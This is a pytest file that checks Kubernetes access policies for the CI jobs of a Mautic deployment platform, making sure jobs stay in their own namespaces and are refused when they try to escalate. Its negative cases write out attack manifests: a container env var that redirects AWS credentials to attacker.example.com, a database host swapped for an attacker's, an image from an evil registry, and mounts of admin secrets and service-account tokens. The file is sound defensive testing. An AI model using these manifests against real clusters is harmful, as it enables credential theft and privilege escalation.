"""What CI jobs may do in a cluster, and what not: users of real groups at a real API server."""

from __future__ import annotations

import base64
import copy
import secrets
import time
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest

from tasks.adapters.identity import this_run
from tasks.adapters.kubernetes.cluster import Cluster
from tasks.adapters.kubernetes.lease import LeaseLock
from tasks.adapters.kubernetes.transport import ApiRequest
from tasks.core.environment import Owner, State
from tasks.core.errors import ClusterError, SuiteError
from tasks.core.kubernetes.manifests import (
    DatabaseServer,
    database_job,
    database_secret,
    namespace,
)
from tasks.core.kubernetes.record import ClusterRecord
from tasks.flows.kubernetes.access import grant_access
from tasks.flows.kubernetes.preflight import preflight
from tasks.flows.kubernetes.values import merge_values
from tests.support.deploys import until
from tests.support.platform import BRANCHES, MAIN, Audited, audited, install_chart, names_in
from tests.support.rights import resource
from tests.support.suite import ROOT

Object = dict[str, Any]

PLATFORM = "mautic-system"
REGISTRY = "registry.example.com/mautic/dev"
SERVER = DatabaseServer("db.example.com", 3306, "mautic-database-admin", PLATFORM, "mautic_")
VALUES: Object = {
    "gatewayApi": {"install": False},
    "database": {"host": SERVER.host},
    "access": {
        "registries": {"dev": [REGISTRY], "prod": [f"{REGISTRY}-prod"]},
        "names": {
            "dev": {"namespace": "mautic-{slug}", "host": "{slug}.dev.example.com"},
            "prod": {"namespace": "mautic-prod", "host": "mautic.example.com"},
        },
        "main": {"group": MAIN, "environments": ["dev", "prod"]},
        "branches": {"group": BRANCHES, "environments": ["dev"]},
    },
}
PASSWORD = "planted-admin-password"
LACKING = {
    "Secret": "update",
    "ResourceQuota": "get create patch delete",
    "Pod": "delete",
    "Pod/log": "get",
    "Deployment": "patch",
    "CronJob": "patch",
    "Job": "delete",
}
"""What somebody else's role may leave out."""


@pytest.fixture(scope="module")
def plane(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Audited]:
    yield from audited(tmp_path_factory.mktemp("access-plane"))


@pytest.fixture(scope="module")
def admin(plane: Audited) -> Cluster:
    """The administrator, after the platform has been installed."""
    cluster = install_chart(plane, VALUES)
    for where in (PLATFORM, "kube-system"):
        cluster.create(
            {
                "apiVersion": "v1",
                "kind": "Secret",
                "metadata": {"name": "mautic-database-admin", "namespace": where},
                "stringData": {"username": "root", "password": PASSWORD},
            }
        )
    wait_for_guards(plane)
    return cluster


def wait_for_guards(plane: Audited) -> None:
    """Wait until the API server has read policies that were made just now."""
    probe = plane.client("probe", BRANCHES)
    end = time.monotonic() + 30
    while True:
        try:
            probe.create(made_namespace("guarded", environment="none"))
        except ClusterError as error:
            if error.status in {403, 422} and "environment that you may" in error.message:
                return
        else:
            Cluster("test", str(plane.kubeconfig)).delete("Namespace", "mautic-guarded")
        assert time.monotonic() < end, "the policies have no effect"
        time.sleep(0.1)


@pytest.fixture(scope="module")
def branch(plane: Audited, admin: Cluster) -> Cluster:
    """A CI job of a branch."""
    return plane.client("job-of-a-branch", BRANCHES)


@pytest.fixture(scope="module")
def main(plane: Audited, admin: Cluster) -> Cluster:
    """A CI job of the main branch."""
    return plane.client("job-of-main", MAIN)


def made_namespace(slug: str, environment: str = "dev") -> Object:
    """The namespace that a deploy makes."""
    own = names_in(environment, slug)
    owner = Owner(environment, own.slug, own.branch, "https://git.example.com/mautic.git")
    return namespace(owner, own, ClusterRecord(State.DEPLOYING, own.url), "")


def entered(cluster: Cluster, slug: str, environment: str = "dev") -> str:
    """Make a namespace as a deploy does, and get into it; return its name."""
    made = made_namespace(slug, environment)
    cluster.create(made)
    name = str(made["metadata"]["name"])
    grant_access(cluster, name, environment, slug)
    return name


def some_slug() -> str:
    return f"b{secrets.token_hex(4)}"


def refused(request: Any, *args: Any, **options: Any) -> str:
    """What the API says to a request that it must refuse."""
    with pytest.raises(ClusterError) as caught:
        request(*args, **options)
    assert caught.value.status in {403, 422}, caught.value.message
    assert PASSWORD not in caught.value.message
    assert base64.b64encode(PASSWORD.encode()).decode() not in caught.value.message
    return caught.value.message


@pytest.fixture(scope="module")
def prod(main: Cluster) -> str:
    """Production, as a job of the main branch has made it."""
    name = entered(main, "main", "prod")
    main.apply(secret_of(name))
    return name


def secret_of(where: str, name: str = "mautic") -> Object:
    return {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": name, "namespace": where},
        "type": "Opaque",
        "data": {"password": base64.b64encode(PASSWORD.encode()).decode()},
    }


# -- what a job may do ------------------------------------------------------------------------


def test_a_branchs_job_gets_into_the_namespace_that_it_makes(
    branch: Cluster, main: Cluster
) -> None:
    where = entered(branch, some_slug())
    branch.apply(secret_of(where))
    assert branch.get("Secret", "mautic", where)
    with LeaseLock(branch, where, this_run("deploy"), wait_seconds=1, say=print):
        pass
    # A scheduled clean-up runs as a job of the main branch.
    assert main.find("Secret", where)
    grant_access(branch, where, "dev", "x")  # once more is no error
    for job in (branch, main):
        assert job.delete("Secret", "mautic", where) in {True, False}
    assert branch.delete("Namespace", where)


def test_a_job_of_main_gets_into_both_environments(main: Cluster, prod: str) -> None:
    where = entered(main, some_slug())
    for name in (where, prod):
        assert main.may("create", "Secret", name)
    found = main.get("RoleBinding", "mautic-multidev", prod)
    assert found
    assert [subject["name"] for subject in found["subjects"]] == [MAIN]
    main.delete("Namespace", where)


def test_an_administrators_namespace_lets_jobs_in_too(admin: Cluster, branch: Cluster) -> None:
    where = entered(admin, some_slug())
    assert branch.may("create", "Secret", where)
    admin.delete("Namespace", where)


def test_without_a_platform_nobody_is_bound(plane: Audited, admin: Cluster) -> None:
    """A cluster where everybody is an administrator needs none of it."""
    where = entered(admin, some_slug(), "qa")
    assert admin.get("RoleBinding", "mautic-multidev", where) is None
    grant_access(plane.client("nobody", "nobodies"), where, "dev", "x")
    admin.delete("Namespace", where)


def test_a_namespace_that_was_entered_before_takes_one_look(
    plane: Audited, branch: Cluster
) -> None:
    where = entered(branch, some_slug())
    job = plane.client("job-that-comes-again", BRANCHES)
    grant_access(job, where, "dev", "x")
    last = ("get", "namespaces")
    job.get("Namespace", where)

    def asked() -> list[tuple[str, str]]:
        entries = plane.asked("job-that-comes-again")
        return [(entry["verb"], entry["objectRef"]["resource"]) for entry in entries]

    # What was asked is written down when it has been answered, or a moment later.
    until(lambda: last in asked())
    assert asked() == [("get", "rolebindings"), last]
    branch.delete("Namespace", where)


@pytest.mark.parametrize("arn", ["", "arn:aws:secretsmanager:eu-central-1:123456789012:secret:x"])
def test_database_jobs_may_be_run(branch: Cluster, arn: str) -> None:
    own = names_in("dev", some_slug())
    server = replace(SERVER, admin_secret_arn=arn, account="mautic-database-admin")
    image = f"{REGISTRY}/mautic@sha256:{'a' * 64}"
    for verb in ("create", "drop"):
        branch.apply(database_secret(own, server, "secret"))
        job = branch.create(database_job(own, server, image, verb, 120))
        name = job["metadata"]["name"]
        assert branch.get("Job", name, PLATFORM)
        branch.find("Pod", PLATFORM, f"batch.kubernetes.io/job-name={name}")
        assert branch.delete("Job", name, PLATFORM)
    assert branch.delete("Secret", f"database-{own.release}", PLATFORM)


def chart_values(**changes: Any) -> Object:
    return merge_values(ROOT, ["helm/environments/dev.yaml"], changes)


def test_a_job_has_all_the_rights_that_a_deploy_asks_for(branch: Cluster) -> None:
    where = entered(branch, some_slug())
    preflight(branch, where, chart_values(), exists=True)
    preflight(branch, where, chart_values(quota={"enabled": False}), exists=True)
    branch.delete("Namespace", where)


def test_a_deploy_that_lacks_rights_is_refused_with_each_of_them(
    plane: Audited, admin: Cluster
) -> None:
    where = entered(admin, some_slug(), "qa")
    api = "rbac.authorization.k8s.io"
    role = admin.get("ClusterRole", "mautic-multidev-environment")
    assert role
    for kind, missing_ in LACKING.items():
        group, plural = resource(kind)
        for rule in [one for one in role["rules"] if plural in one["resources"]]:
            rule["resources"].remove(plural)
            verbs = [verb for verb in rule["verbs"] if verb not in missing_.split()]
            rules = {"apiGroups": [group], "resources": [plural], "verbs": verbs}
            role["rules"] += [rules] if verbs else []
    rules = [rule for rule in role["rules"] if rule["resources"]]
    name = {"name": "less", "namespace": where}
    root = f"/apis/{api}/v1/namespaces/{where}"
    for plural, body in (
        ("roles", {"rules": rules}),
        (
            "rolebindings",
            {
                "roleRef": {"apiGroup": api, "kind": "Role", "name": "less"},
                "subjects": [{"apiGroup": api, "kind": "Group", "name": "interns"}],
            },
        ),
    ):
        admin._transport.json(
            ApiRequest("POST", f"{root}/{plural}", body={"metadata": name, **body})
        )
    intern = plane.client("intern", "interns")
    until(lambda: intern.may("list", "Pod", where))

    with pytest.raises(SuiteError) as caught:
        preflight(intern, where, chart_values(), exists=True)
    for kind, verbs in LACKING.items():
        words = f"you may not {', '.join(verbs.split())} {kind} objects in {where}"
        assert words in caught.value.message
    assert caught.value.message.count("you may not") == len(LACKING)
    # What the chart does not make needs no right.
    with pytest.raises(SuiteError) as caught:
        preflight(intern, where, chart_values(quota={"enabled": False}), exists=True)
    assert "ResourceQuota" not in caught.value.message
    admin.delete("Namespace", where)


# -- what it may not --------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["Secret", "ConfigMap", "Pod", "Service", "Job"])
def test_nothing_of_other_namespaces_can_be_read(branch: Cluster, prod: str, kind: str) -> None:
    for where in (prod, "kube-system", "default"):
        refused(branch.find, kind, where)
        refused(branch.get, kind, "mautic", where)
    refused(branch.find_all, kind)


def test_the_platforms_own_secrets_cannot_be_read(branch: Cluster, main: Cluster) -> None:
    for job in (branch, main):
        for where in (PLATFORM, "kube-system"):
            refused(job.get, "Secret", "mautic-database-admin", where)
            refused(job.find, "Secret", where)


def test_production_cannot_be_touched_by_a_branch(branch: Cluster, prod: str) -> None:
    refused(branch.apply, secret_of(prod))
    refused(branch.delete, "Secret", "mautic", prod)
    refused(branch.delete, "Namespace", prod)
    refused(branch.apply, made_namespace("main", "prod"))
    refused(branch.patch, "Namespace", prod, None, {"metadata": {"labels": {"x": "y"}}})
    refused(branch.logs, prod, "web", "fpm")
    status, _ = branch.http(prod, "web", "http", "/", {})
    assert status == 403


@pytest.mark.parametrize("where", ["kube-system", "default", PLATFORM])
def test_namespaces_of_others_cannot_be_taken(branch: Cluster, main: Cluster, where: str) -> None:
    mine = copy.deepcopy(made_namespace("x"))
    mine["metadata"]["name"] = where
    for job in (branch, main):
        refused(job.apply, mine)
        refused(job.delete, "Namespace", where)


def made(**changes: Any) -> Object:
    """A branch's namespace with other labels, or another name."""
    item = copy.deepcopy(made_namespace(some_slug()))
    item["metadata"]["name"] = changes.pop("name", item["metadata"]["name"])
    for label, value in changes.items():
        key = next(key for key in item["metadata"]["labels"] if key.endswith(label))
        item["metadata"]["labels"][key] = value
    return item


@pytest.mark.parametrize(
    ("item", "why"),
    [
        (made(environment="prod"), "environment that you may deploy to"),
        (made(environment="qa"), "environment that you may deploy to"),
        (made(by="somebody"), "environment that you may deploy to"),
        (made(enforce="privileged"), "restricted"),
        (made(name="other-namespace"), "must begin with mautic-"),
    ],
)
def test_only_a_hardened_namespace_of_an_own_environment_can_be_made(
    branch: Cluster, item: Object, why: str
) -> None:
    assert why in refused(branch.create, item)


def test_a_namespace_cannot_be_weakened_or_moved(branch: Cluster) -> None:
    where = entered(branch, some_slug())
    for label, value in (
        ("pod-security.kubernetes.io/enforce", "privileged"),
        ("pod-security.kubernetes.io/enforce", None),
        ("mautic-multidev.io/environment", "prod"),
        ("app.kubernetes.io/managed-by", None),
    ):
        patch = {"metadata": {"labels": {label: value}}}
        refused(branch.patch, "Namespace", where, None, patch)
    branch.delete("Namespace", where)


def binding(where: str, role: str, subject: Object) -> Object:
    api = "rbac.authorization.k8s.io"
    subject = {"apiGroup": "" if subject["kind"] == "ServiceAccount" else api, **subject}
    return {
        "apiVersion": f"{api}/v1",
        "kind": "RoleBinding",
        "metadata": {"name": "mautic-multidev", "namespace": where},
        "roleRef": {"apiGroup": api, "kind": "ClusterRole", "name": role},
        "subjects": [subject],
    }


def test_rights_cannot_be_widened_by_a_binding(branch: Cluster, main: Cluster, prod: str) -> None:
    where = entered(branch, some_slug())
    group = {"kind": "Group", "name": BRANCHES}
    environment = "mautic-multidev-environment"
    for place in ("kube-system", PLATFORM, "default"):
        for job in (branch, main):
            refused(job.create, binding(place, environment, group))
    refused(branch.create, binding(prod, environment, group))
    refused(main.create, binding(prod, environment, group))
    for role in ("cluster-admin", "admin", "mautic-multidev"):
        refused(branch.create, binding(where, role, group))
    for subject in (
        {"kind": "Group", "name": "system:authenticated"},
        {"kind": "User", "name": "somebody"},
        {"kind": "ServiceAccount", "name": "default", "namespace": "default"},
    ):
        refused(branch.create, binding(where, environment, subject))
    own = binding(where, environment, group)
    refused(branch.apply, own)
    refused(branch.delete, "RoleBinding", "mautic-multidev", where)
    for kind in ("ClusterRole", "ClusterRoleBinding", "ValidatingAdmissionPolicy"):
        for verb in ("create", "update", "patch", "delete", "list"):
            assert not branch.may(verb, kind), (verb, kind)
    branch.delete("Namespace", where)


@pytest.mark.parametrize(
    "spec", [{"type": "LoadBalancer"}, {"type": "NodePort"}, {"externalIPs": ["192.0.2.1"]}]
)
def test_no_way_in_beside_the_gateway_can_be_opened(branch: Cluster, spec: Object) -> None:
    where = entered(branch, some_slug())
    service: Object = {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {"name": "web", "namespace": where},
        "spec": {"ports": [{"port": 80}]},
    }
    branch.apply(service)
    service["spec"] |= spec
    assert "ClusterIP" in refused(branch.apply, service)
    branch.delete("Namespace", where)


def ingress(where: str, host: str) -> Object:
    return {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "Ingress",
        "metadata": {"name": "web", "namespace": where},
        "spec": {
            "rules": [{"host": host}],
            "defaultBackend": {"service": {"name": "web", "port": {"number": 80}}},
        },
    }


def test_with_groups_too_a_host_name_is_its_namespaces(branch: Cluster, prod: str) -> None:
    slug = some_slug()
    where = entered(branch, slug)
    own = f"{slug}.dev.example.com"
    for host in ("mautic.example.com", f"{some_slug()}.dev.example.com", "*.dev.example.com"):
        item = ingress(where, host)
        del item["spec"]["defaultBackend"]
        assert f"no host name but {own}" in refused(branch.create, item)
    item = ingress(where, own)
    assert "what no other route takes" in refused(branch.create, item)
    del item["spec"]["defaultBackend"]
    branch.create(item)
    # The slug says which host name it is.
    taken = {"metadata": {"labels": {"mautic-multidev.io/slug": "main"}}}
    assert "keeps its slug" in refused(branch.patch, "Namespace", where, None, taken)
    assert "that of its branch" in refused(branch.create, made(slug="main"))
    branch.delete("Namespace", where)


def test_the_administrators_secret_cannot_be_changed(branch: Cluster, admin: Cluster) -> None:
    name = "mautic-database-admin"
    # Even a patch that changes nothing would answer with the whole Secret.
    refused(branch.patch, "Secret", name, PLATFORM, {"metadata": {"labels": {}}})
    refused(branch.apply, secret_of(PLATFORM, name))
    refused(branch.delete, "Secret", name, PLATFORM)
    refused(branch.create, secret_of(PLATFORM, "another"))
    token = secret_of(PLATFORM, "database-mautic-token")
    token["metadata"]["annotations"] = {"kubernetes.io/service-account.name": name}
    refused(branch.create, {**token, "type": "kubernetes.io/service-account-token", "data": {}})
    found = admin.get("Secret", name, PLATFORM)
    assert found
    assert base64.b64decode(found["data"]["password"]).decode() == PASSWORD


def changed(change: Any) -> Object:
    """A database Job, changed."""
    own = names_in("dev", "x")
    job = database_job(own, SERVER, f"{REGISTRY}/mautic@sha256:{'a' * 64}", "create", 120)
    change(job, job["spec"]["template"]["spec"], job["spec"]["template"]["spec"]["containers"][0])
    return job


def redirect_credentials(_: Object, __: Object, container: Object) -> None:
    """Send the pod identity's token to somebody else's server."""
    address = {
        "name": "AWS_CONTAINER_CREDENTIALS_FULL_URI",
        "value": "https://attacker.example.com",
    }
    container["env"].append(address)


def set_host(_: Object, __: Object, container: Object) -> None:
    (host,) = (one for one in container["env"] if one["name"] == "MAUTIC_DB_HOST")
    host["value"] = "db.attacker.example.com"


@pytest.mark.parametrize(
    ("job", "why"),
    [
        (changed(lambda job, pod, one: job["metadata"].update(name="x")), "database Jobs alone"),
        (changed(lambda job, pod, one: one.update(args=["console"])), "nothing else"),
        (changed(lambda job, pod, one: one.update(command=["sh"])), "nothing else"),
        (
            changed(
                lambda job, pod, one: one.update(
                    lifecycle={"preStop": {"exec": {"command": ["sh"]}}}
                )
            ),
            "nothing else",
        ),
        (
            changed(lambda job, pod, one: pod.update(initContainers=[{**one, "name": "a"}])),
            "nothing else",
        ),
        (
            changed(lambda job, pod, one: pod["containers"].append({**one, "name": "b"})),
            "nothing else",
        ),
        (
            changed(
                lambda job, pod, one: one.update(
                    envFrom=[{"secretRef": {"name": "mautic-database-admin"}}]
                )
            ),
            "nothing else",
        ),
        (changed(lambda job, pod, one: one.update(image="evil.example.com/x")), REGISTRY),
        (changed(lambda job, pod, one: one.update(image=f"{REGISTRY}-evil/x")), REGISTRY),
        (changed(set_host), "server is db.example.com"),
        (changed(redirect_credentials), "nothing else"),
        (changed(lambda job, pod, one: pod.update(serviceAccountName="other")), "runs as"),
        (
            changed(
                lambda job, pod, one: pod["volumes"].append(
                    {"name": "c", "secret": {"secretName": "sh.helm.release.v1.mautic-platform.v1"}}
                )
            ),
            "mounts",
        ),
        (
            changed(
                lambda job, pod, one: pod["volumes"].append(
                    {
                        "name": "c",
                        "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]},
                    }
                )
            ),
            "mounts",
        ),
    ],
)
def test_only_database_jobs_run_beside_the_administrators_secret(
    branch: Cluster, main: Cluster, job: Object, why: str
) -> None:
    assert why in refused(branch.create, job)
    assert why in refused(main.create, job)


def test_nothing_else_runs_there(branch: Cluster) -> None:
    for verb in ("create", "update", "patch", "delete"):
        for kind in ("Pod", "Deployment", "CronJob", "ServiceAccount", "ConfigMap", "Role"):
            assert not branch.may(verb, kind, PLATFORM), (verb, kind)
    refused(branch.execute, PLATFORM, "pod", "database", ["sh"])


def test_the_policies_are_not_in_the_way_of_others(admin: Cluster) -> None:
    """They look at CI jobs alone."""
    server = replace(SERVER, host="elsewhere.example.com")
    own = names_in("dev", some_slug())
    job = database_job(own, server, "elsewhere.example.com/mautic", "create", 120)
    admin.create(job)
    admin.delete("Job", job["metadata"]["name"], PLATFORM)
    other = made(environment="qa", name=f"free-{secrets.token_hex(3)}")
    admin.create(other)
    admin.delete("Namespace", other["metadata"]["name"])
